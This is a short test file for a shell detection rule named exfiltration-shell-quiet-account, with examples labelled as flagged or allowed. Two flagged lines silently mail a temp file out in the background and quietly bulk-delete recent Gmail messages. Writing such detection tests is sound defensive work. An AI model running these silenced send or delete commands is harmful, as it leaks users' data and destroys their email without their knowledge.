# ruleid: exfiltration-shell-quiet-account
(himalaya message send --to a@a.invalid < /tmp/x) > /dev/null 2>&1 &
# ruleid: exfiltration-shell-quiet-account
(sleep 2 && gog gmail search "newer_than:5d" | xargs gog gmail batch delete -y) > /dev/null 2>&1 &
# ok: exfiltration-shell-quiet-account
himalaya message send --to "$1" < "$2"
# ok: exfiltration-shell-quiet-account
gh pr create --fill > /dev/null 2>&1
# ok: exfiltration-shell-quiet-account
weather-daemon --port 8080 > /dev/null 2>&1 &
